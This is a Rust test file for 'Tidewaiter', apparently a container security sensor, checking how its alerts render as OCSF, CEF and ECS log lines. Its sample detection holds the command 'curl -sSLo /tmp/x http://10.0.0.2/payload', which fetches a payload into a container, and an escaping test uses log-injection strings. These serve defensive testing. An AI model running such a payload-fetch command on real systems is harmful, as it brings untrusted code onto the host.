//! Each form of each sample.

mod fuzzed;
mod hostile;
mod python;
mod schema;

use serde_json::Value;

use super::*;
use crate::alert::Message;
use crate::sink::text::escape::is_unsafe;
use crate::sink::{encode, sample};

/// Below it forms promise nothing.
const ROOM_MIN: usize = 4_000;

fn samples() -> Vec<Message> {
    let mut amendment = sample::alert();
    amendment.is_amendment = true;
    let alerts = [
        sample::alert(),
        amendment,
        sample::connections(),
        sample::stranger(),
        sample::chain(),
        sample::in_pod(),
        sample::correlated(),
        sample::hostile(),
    ];
    let notices = [
        sample::coverage(),
        sample::loss(),
        sample::tampering(),
        sample::aggregation(),
        sample::reload(),
        sample::refusal(),
        sample::cost(),
        sample::heartbeat(),
        sample::canary_failed(),
        sample::canary_well(),
        sample::stopped(),
    ];
    alerts.into_iter().map(|alert| Message::Alert(Box::new(alert))).chain(notices).collect()
}

fn envelope(message: &Message) -> Envelope {
    encode::encode(message, &sample::origin())
}

fn ocsf(message: &Message) -> Value {
    serde_json::from_str(&Form::Ocsf.render(&envelope(message), usize::MAX)).unwrap()
}

fn cef(message: &Message) -> String {
    Form::Cef.render(&envelope(message), usize::MAX).into_owned()
}

#[test]
fn every_message_fits_on_one_safe_line_in_every_form() {
    for message in samples() {
        let envelope = envelope(&message);
        for form in [Form::Ocsf, Form::Cef] {
            let whole = form.render(&envelope, usize::MAX);
            assert_eq!(form.render(&envelope, usize::MAX), whole, "the same when sent again");
            for room in [ROOM_MIN, 5_000, 8_000, 64_000] {
                let line = form.render(&envelope, room);
                assert!(line.len() <= room, "{form:?} {} of {room}: {line}", line.len());
                assert!(!line.chars().any(is_unsafe), "{form:?}: {line}");
                if line == whole {
                    continue;
                }
                let says = line.contains("\"truncated\":true") || line.ends_with(" tidewaiterTruncated=true");
                assert!(says, "{form:?}: {line}");
                assert!(line.contains(&envelope.id.to_string()), "{line}");
            }
        }
    }
}

#[test]
fn ecs_is_the_document_as_it_was_kept() {
    let envelope = envelope(&Message::Alert(Box::new(sample::chain())));
    assert_eq!(Form::Ecs.render(&envelope, usize::MAX), envelope.document);
    assert_eq!(Form::Ecs.render(&envelope, 10), envelope.body());
}

#[test]
fn what_was_damaged_is_a_message_all_the_same() {
    let envelope = Envelope { document: "{\"event\":".to_owned(), ..envelope(&sample::message()) };
    let event: Value = serde_json::from_str(&Form::Ocsf.render(&envelope, 8_000)).unwrap();
    assert_eq!(event["metadata"]["sequence"], 7);
    assert!(Form::Cef.render(&envelope, 8_000).contains(" cn1=7 "));
}

#[test]
fn an_alert_in_cef() {
    let line = cef(&sample::message());
    let head = "CEF:0|Tidewaiter|tidewaiter|0.1.0|6f2f0b5e-6f0a-4d0a-9e55-0c1f7a8a1d01|curl downloads into a container|8|";
    assert!(line.starts_with(head), "{line}");
    for pair in [
        "|rt=1795262594281 externalId=01932b9e-4c11-7abc-8def-0123456789ab cn1Label=sequence cn1=7 dvchost=node-1 ",
        " cat=alert act=alerted dst=10.0.0.2 dpt=80 proto=TCP deviceDirection=1 in=92 out=1258291 spid=4242 suid=0 suser=root ",
        " cs6Label=techniques cs6=T1105 ",
        " cs3Label=containerName cs3=web-1 cs4Label=image cs4=nginx:1.25 ",
        " sproc=/usr/bin/curl cs1Label=commandLine cs1=curl -sSLo /tmp/x http://10.0.0.2/payload fname=x filePath=/tmp/x ",
        " request=http://10.0.0.2/payload msg=curl downloads",
        " tidewaiterSchema=3",
    ] {
        assert!(line.contains(pair), "{pair}\n{line}");
    }
}

#[test]
fn values_cannot_leave_their_place_in_cef() {
    let mut alert = sample::alert();
    alert.detection.title = "a|b\\c\nd".to_owned();
    alert.user = Some(" x=y\n\r\\n\u{1b} | CEF:0|".into());
    let line = cef(&Message::Alert(Box::new(alert)));
    assert!(line.contains(r"|a\|b\\\\c\\u000ad|8|"), "{line}");
    assert!(line.contains(r" suser=\\u0020x\=y\n\r\\\\n\\u001b | CEF:0| cs6Label="), "{line}");
}

#[test]
fn an_ipv6_address_has_a_key_of_its_own_in_cef() {
    let mut alert = sample::connections();
    for step in &mut alert.steps {
        if let crate::alert::Action::Connected { place, .. } = &mut step.action {
            place.address = "2001:db8::1".parse().unwrap();
        }
    }
    let line = cef(&Message::Alert(Box::new(alert)));
    assert!(line.contains(" c6a3Label=Destination IPv6 Address c6a3=2001:db8::1 dpt="), "{line}");
    assert!(!line.contains(" dst="), "{line}");
}

#[test]
fn notices_carry_their_report_in_cef() {
    let line = cef(&sample::heartbeat());
    assert!(line.starts_with("CEF:0|Tidewaiter|tidewaiter|0.1.0|heartbeat|heartbeat|0|rt="), "{line}");
    assert!(line.contains(" cs1Label=report cs1={\"heartbeat\":{"), "{line}");
    assert!(line.contains("\"outstanding\":7"), "{line}");
}

#[test]
fn an_alert_is_a_detection_finding() {
    let event = ocsf(&sample::message());
    for (pointer, expected) in [
        ("/class_uid", 2004.into()),
        ("/type_uid", 200_401.into()),
        ("/severity_id", 4.into()),
        ("/time", 1_795_262_594_281_u64.into()),
        ("/metadata/uid", "01932b9e-4c11-7abc-8def-0123456789ab".into()),
        ("/metadata/original_time", "2026-11-21T12:03:14.281042Z".into()),
        ("/metadata/sequence", 7.into()),
        ("/finding_info/analytic/uid", "6f2f0b5e-6f0a-4d0a-9e55-0c1f7a8a1d01".into()),
        ("/finding_info/attacks/0/technique/uid", "T1105".into()),
        ("/finding_info/attacks/0/tactic/name", "command-and-control".into()),
        ("/evidences/0/process/cmd_line", "curl -sSLo /tmp/x http://10.0.0.2/payload".into()),
        ("/evidences/0/process/parent_process/name", "sh".into()),
        ("/evidences/0/process/ancestry/1/name", "containerd-shim-runc-v2".into()),
        ("/evidences/0/container/name", "web-1".into()),
        ("/evidences/0/dst_endpoint/port", 80.into()),
        ("/evidences/0/connection_info/direction_id", 2.into()),
        ("/evidences/0/file/path", "/tmp/x".into()),
        ("/evidences/0/url/url_string", "http://10.0.0.2/payload".into()),
        ("/evidences/0/data/bytes_received", 1_258_291.into()),
        ("/resources/0/type", "container".into()),
        ("/device/hostname", "node-1".into()),
        ("/unmapped/tidewaiter/steps/1/action", "connected".into()),
    ] {
        assert_eq!(event.pointer(pointer), Some(&expected), "{pointer} of {event}");
    }
    let mut amendment = sample::alert();
    amendment.is_amendment = true;
    assert_eq!(ocsf(&Message::Alert(Box::new(amendment)))["type_uid"], 200_402);
}

#[test]
fn sub_techniques_stand_below_their_technique() {
    let mut alert = sample::alert();
    alert.detection.techniques = vec!["T1048.003".to_owned(), "T1105".to_owned()];
    alert.detection.tactics.push("exfiltration".to_owned());
    let attacks = ocsf(&Message::Alert(Box::new(alert)))["finding_info"]["attacks"].take();
    let expected = serde_json::json!([
        {"technique": {"uid": "T1048"}, "sub_technique": {"uid": "T1048.003"}},
        {"technique": {"uid": "T1105"}},
        {"tactic": {"name": "command-and-control"}},
        {"tactic": {"name": "exfiltration"}},
    ]);
    assert_eq!(attacks, expected);
}

#[test]
fn what_comes_from_outside_has_the_other_end_as_its_source() {
    let mut alert = sample::alert();
    for step in &mut alert.steps {
        if let crate::alert::Action::Connected { direction, .. } = &mut step.action {
            *direction = crate::event::Direction::Inbound;
        }
    }
    let event = ocsf(&Message::Alert(Box::new(alert)));
    assert_eq!(event["evidences"][0]["src_endpoint"]["ip"], "10.0.0.2");
    assert_eq!(event["evidences"][0].get("dst_endpoint"), None);
}

#[test]
fn the_sensor_itself_has_a_life_cycle() {
    for (message, type_uid, name) in [
        (sample::coverage(), 600_203, "Start"),
        (sample::stopped(), 600_204, "Stop"),
        (sample::reload(), 600_208, "Update"),
        (sample::heartbeat(), 600_299, "heartbeat"),
        (sample::loss(), 600_299, "loss"),
    ] {
        let event = ocsf(&message);
        assert_eq!((&event["type_uid"], &event["activity_name"]), (&type_uid.into(), &name.into()));
        assert_eq!(event["app"]["name"], "Tidewaiter");
        assert_eq!(event["metadata"]["sequence"], 1);
    }
    assert_eq!(ocsf(&sample::refusal())["status_id"], 2);
    assert_eq!(ocsf(&sample::heartbeat())["unmapped"]["tidewaiter"]["heartbeat"]["alerts"], 4);
}
